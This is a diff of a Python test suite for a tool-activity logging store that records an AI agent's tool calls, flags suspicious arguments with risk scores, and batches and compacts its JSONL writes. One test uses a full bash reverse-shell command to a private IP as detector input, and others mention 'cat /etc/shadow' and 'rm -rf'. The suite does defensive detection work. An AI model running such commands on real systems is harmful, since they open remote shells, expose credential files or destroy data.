@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import time
+from dataclasses import asdict
 from pathlib import Path
 
 import pytest
@@ -28,6 +29,11 @@ class TestToolActivityStore:
         assert entry.session_id == "sess-1"
         assert entry.category == "sdk"
 
+    def test_entry_has_no_instance_dict(self, tmp_path: Path) -> None:
+        store = ToolActivityStore(tmp_path / "activity.jsonl")
+        entry = store.record_start(session_id="s1", tool="bash", call_id="c1")
+        assert not hasattr(entry, "__dict__")
+
     def test_record_complete(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
         store.record_start(session_id="s1", tool="run", call_id="c1", arguments="ls")
@@ -38,6 +44,18 @@ class TestToolActivityStore:
         assert entry.duration_ms is not None
         assert entry.duration_ms >= 0
 
+    def test_duration_ignores_wall_clock_jumps(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        store = ToolActivityStore(tmp_path / "activity.jsonl")
+        monkeypatch.setattr(time, "time", lambda: 2_000_000_000.0)
+        entry = store.record_start(session_id="s1", tool="bash", call_id="c1")
+        assert entry.timestamp == 2_000_000_000.0
+        monkeypatch.setattr(time, "time", lambda: 1_000_000_000.0)  # clock stepped back
+        completed = store.record_complete(call_id="c1")
+        assert completed is not None
+        assert 0 <= completed.duration_ms < 60_000
+
     def test_query_empty(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
         result = store.query()
@@ -59,6 +77,30 @@ class TestToolActivityStore:
         result = store.query(category="mcp")
         assert result["total"] == 1
 
+    def test_query_indexed_filters_match_scan(self, tmp_path: Path) -> None:
+        store = ToolActivityStore(tmp_path / "activity.jsonl")
+        for i in range(12):
+            store.record_start(
+                session_id=f"s{i % 3}",
+                tool="bash" if i % 2 else "mcp__search",
+                call_id=f"c{i}",
+                interaction_type="hitl" if i % 4 == 0 else "",
+            )
+
+        everything = store.query()["entries"]
+        for filters in (
+            {"session_id": "s1"},
+            {"session_id": "s0", "category": "mcp"},
+            {"interaction_type": "hitl", "category": "mcp"},
+            {"session_id": "missing"},
+        ):
+            expected = [
+                e["id"] for e in everything
+                if all(e[k] == v for k, v in filters.items())
+            ]
+            got = [e["id"] for e in store.query(**filters)["entries"]]
+            assert got == expected, filters
+
     def test_flagging(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
         entry = store.record_start(session_id="s1", tool="bash", call_id="c1")
@@ -74,6 +116,7 @@ class TestToolActivityStore:
         store1 = ToolActivityStore(path)
         store1.record_start(session_id="s1", tool="bash", call_id="c1")
         store1.record_complete(call_id="c1", result="done")
+        store1.flush()
 
         # Reload from disk (simulates server restart)
         store2 = ToolActivityStore(path)
@@ -87,6 +130,7 @@ class TestToolActivityStore:
         result = store2.query(flagged_only=True)
         assert result["total"] == 1
         assert result["entries"][0]["flagged"]
+        store2.flush()
 
         # Verify persistence across another reload
         store3 = ToolActivityStore(path)
@@ -102,6 +146,25 @@ class TestToolActivityStore:
         assert entry.flagged
         assert "rm -rf" in entry.flag_reason
 
+    def test_suspicious_detection_reports_overlapping_patterns(self, tmp_path: Path) -> None:
+        store = ToolActivityStore(tmp_path / "activity.jsonl")
+        entry = store.record_start(
+            session_id="s1", tool="bash", call_id="c1",
+            arguments="bash -i >&/dev/tcp/10.0.0.1/4242 0>&1",
+        )
+        assert "Bash reverse shell" in entry.risk_factors
+        assert "Network device access" in entry.risk_factors
+        assert entry.risk_score == 90
+
+    def test_clean_arguments_not_flagged(self, tmp_path: Path) -> None:
+        store = ToolActivityStore(tmp_path / "activity.jsonl")
+        entry = store.record_start(
+            session_id="s1", tool="bash", call_id="c1", arguments="ls -la",
+        )
+        assert not entry.flagged
+        assert entry.risk_score == 0
+        assert entry.risk_factors == []
+
     def test_summary(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
         store.record_start(session_id="s1", tool="bash", call_id="c1")
@@ -114,18 +177,62 @@ class TestToolActivityStore:
         assert summary["by_tool"]["bash"] == 2
         assert summary["by_tool"]["edit"] == 1
 
+    def test_aggregates_follow_updates(self, tmp_path: Path) -> None:
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1", model="m1")
+        store.record_start(
+            session_id="s1", tool="edit", call_id="c2", interaction_type="hitl",
+        )
+        store.record_start(session_id="s2", tool="bash", call_id="c3")
+        store.record_complete(call_id="c1", result="cat /etc/shadow")
+        store.record_complete(call_id="c2", result="ok", status="denied")
+        store.flag_entry("ta-3", "odd")
+        store.unflag_entry("ta-3")
+        store.flag_entry("ta-2")
+
+        summary = store.get_summary()
+        assert summary["total"] == 3
+        assert summary["flagged"] == 2
+        assert summary["by_status"] == {"completed": 1, "denied": 1, "started": 1}
+        assert summary["by_interaction_type"] == {"hitl": 1}
+        assert summary["risk_high"] == 1
+        assert summary["risk_medium"] == 2
+        sessions = {s["session_id"]: s for s in store.get_session_breakdown()}
+        assert sessions["s1"]["flagged_count"] == 2
+        assert sessions["s1"]["models"] == ["m1"]
+        assert sessions["s2"]["flagged_count"] == 0
+        assert sessions["s2"]["max_risk"] == 50
+
+        store.flush()
+        reloaded = ToolActivityStore(path)
+        assert reloaded.get_summary() == summary
+        assert reloaded.get_session_breakdown() == store.get_session_breakdown()
+
     def test_get_entry(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
         entry = store.record_start(session_id="s1", tool="grep", call_id="c1")
         fetched = store.get_entry(entry.id)
         assert fetched is not None
         assert fetched["tool"] == "grep"
+        assert fetched == asdict(entry)
+        fetched["risk_factors"].append("mutated")
+        assert "mutated" not in entry.risk_factors
+
+    def test_load_ignores_unknown_fields(self, tmp_path: Path) -> None:
+        path = tmp_path / "activity.jsonl"
+        path.write_text(json.dumps({"id": "ta-7", "tool": "bash", "legacy": 1}) + "\n")
+        entry = ToolActivityStore(path).get_entry("ta-7")
+        assert entry is not None
+        assert entry["tool"] == "bash"
+        assert "legacy" not in entry
 
     def test_persistence(self, tmp_path: Path) -> None:
         path = tmp_path / "activity.jsonl"
         store1 = ToolActivityStore(path)
         store1.record_start(session_id="s1", tool="run", call_id="c1")
         store1.record_complete(call_id="c1", result="done")
+        store1.flush()
 
         # Load from disk
         store2 = ToolActivityStore(path)
@@ -139,6 +246,8 @@ class TestToolActivityStore:
         assert store._infer_category("my__tool") == "mcp"
         assert store._infer_category("server.search") == "mcp"
         assert store._infer_category("web_search") == "custom"
+        assert store._infer_category("BASH") == "sdk"
+        assert store._infer_category("mcp_fetch") == "mcp"
 
     def test_model_tracking(self, tmp_path: Path) -> None:
         store = ToolActivityStore(tmp_path / "activity.jsonl")
@@ -159,3 +268,181 @@ class TestToolActivityStore:
         assert "gpt-4o" in s1["models"]
         s2 = next(s for s in sessions if s["session_id"] == "s2")
         assert "gpt-4o-mini" in s2["models"]
+
+    def test_flag_appends_patch_record(self, tmp_path: Path) -> None:
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        entry = store.record_start(session_id="s1", tool="bash", call_id="c1")
+        store.flag_entry(entry.id, "odd")
+        store.unflag_entry(entry.id)
+        store.flush()
+
+        lines = path.read_text().splitlines()
+        assert json.loads(lines[-2]) == {"op": "flag", "id": entry.id, "reason": "odd"}
+        assert json.loads(lines[-1]) == {"op": "unflag", "id": entry.id}
+
+        reloaded = ToolActivityStore(path).get_entry(entry.id)
+        assert reloaded is not None
+        assert not reloaded["flagged"]
+        assert "Manual review" in reloaded["risk_factors"]
+
+    def test_patches_are_compacted(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr(
+            "app.runtime.state.tool_activity_store._COMPACT_MIN_PATCHES", 2,
+        )
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1")
+        store.record_complete(call_id="c1", result="done")
+        for reason in ("a", "b", "c"):
+            store.flag_entry("ta-1", reason)
+
+        lines = path.read_text().splitlines()
+        assert len(lines) == 1
+        assert json.loads(lines[0])["flag_reason"] == "c"
+        assert ToolActivityStore(path).query(flagged_only=True)["total"] == 1
+
+    def test_compaction_writes_outside_lock(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        from app.runtime.state import tool_activity_store as mod
+
+        monkeypatch.setattr(mod, "_COMPACT_MIN_PATCHES", 1)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1")
+        store.flag_entry("ta-1", "a")
+
+        encode = mod._encode
+        snapshot = store._snapshot
+
+        def snapshot_then_record() -> list:
+            entries = snapshot()
+
+            def record_during_rewrite(obj):
+                # A concurrent writer must not block on the rewrite.
+                monkeypatch.setattr(mod, "_encode", encode)
+                assert not store._lock.locked()
+                store.record_start(session_id="s2", tool="view", call_id="c2")
+                store.flag_entry("ta-2", "late")
+                return encode(obj)
+
+            monkeypatch.setattr(mod, "_encode", record_during_rewrite)
+            return entries
+
+        monkeypatch.setattr(store, "_snapshot", snapshot_then_record)
+        store.flag_entry("ta-1", "b")
+        store.flush()
+
+        reloaded = ToolActivityStore(path)
+        assert reloaded.get_entry("ta-1")["flag_reason"] == "b"
+        assert reloaded.get_entry("ta-2")["flag_reason"] == "late"
+        assert not path.with_name(path.name + ".tmp").exists()
+
+    def test_writes_are_batched(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._BATCH_SIZE", 3)
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._BATCH_MS", 60_000)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1")
+        store.record_start(session_id="s1", tool="bash", call_id="c2")
+        assert not path.exists()
+
+        store.record_start(session_id="s1", tool="bash", call_id="c3")
+        assert len(path.read_text().splitlines()) == 3
+
+        store.record_complete(call_id="c1", result="done")
+        store.flush()
+        assert len(path.read_text().splitlines()) == 4
+
+    def test_batch_flushed_after_interval(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._BATCH_MS", 1)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1")
+        deadline = time.monotonic() + 5
+        while not (path.exists() and path.read_text()) and time.monotonic() < deadline:
+            time.sleep(0.005)
+        assert len(path.read_text().splitlines()) == 1
+
+    def test_flusher_thread_reused_across_batches(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._BATCH_MS", 1)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        flusher = None
+        for i in range(1, 4):
+            store.record_start(session_id="s1", tool="bash", call_id=f"c{i}")
+            flusher = flusher or store._flusher
+            assert store._flusher is flusher
+            deadline = time.monotonic() + 5
+            while len(path.read_text().splitlines() if path.exists() else []) < i:
+                assert time.monotonic() < deadline
+                time.sleep(0.005)
+
+    def test_idle_flusher_exits_and_restarts(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._BATCH_MS", 1)
+        monkeypatch.setattr("app.runtime.state.tool_activity_store._FLUSHER_IDLE_S", 0.01)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1")
+        flusher = store._flusher
+        assert flusher is not None
+        flusher.join(5)
+        assert not flusher.is_alive()
+        assert store._flusher is None
+
+        store.record_start(session_id="s1", tool="bash", call_id="c2")
+        assert store._flusher is not None
+        store._flusher.join(5)
+        assert len(path.read_text().splitlines()) == 2
+
+    def test_lone_surrogate_round_trips(self, tmp_path: Path) -> None:
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1", arguments="a \udc80")
+        entry = store.record_complete(call_id="c1", result="bad \ud800")
+        assert entry is not None
+        assert store.get_entry(entry.id)["status"] == "completed"
+        store.flush()
+
+        reloaded = ToolActivityStore(path).get_entry(entry.id)
+        assert reloaded is not None
+        assert reloaded["arguments"] == "a \udc80"
+        assert reloaded["result"] == "bad \ud800"
+
+    def test_round_trip_without_orjson(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        monkeypatch.setattr("app.runtime.state.tool_activity_store.orjson", None)
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        store.record_start(session_id="s1", tool="bash", call_id="c1", arguments="héllo")
+        store.flag_entry("ta-1", "check")
+        store.flush()
+
+        entry = ToolActivityStore(path).get_entry("ta-1")
+        assert entry is not None
+        assert entry["arguments"] == "héllo"
+        assert entry["flag_reason"] == "check"
+
+    def test_load_large_log(self, tmp_path: Path) -> None:
+        path = tmp_path / "activity.jsonl"
+        store = ToolActivityStore(path)
+        for i in range(500):
+            store.record_start(session_id="s1", tool="bash", call_id=f"c{i}", arguments="x" * 200)
+        store.flush()
+        assert path.stat().st_size > 1 << 16
+
+        reloaded = ToolActivityStore(path)
+        assert reloaded.query()["total"] == 500
+        assert reloaded.record_start(session_id="s1", tool="bash", call_id="new").id == "ta-501"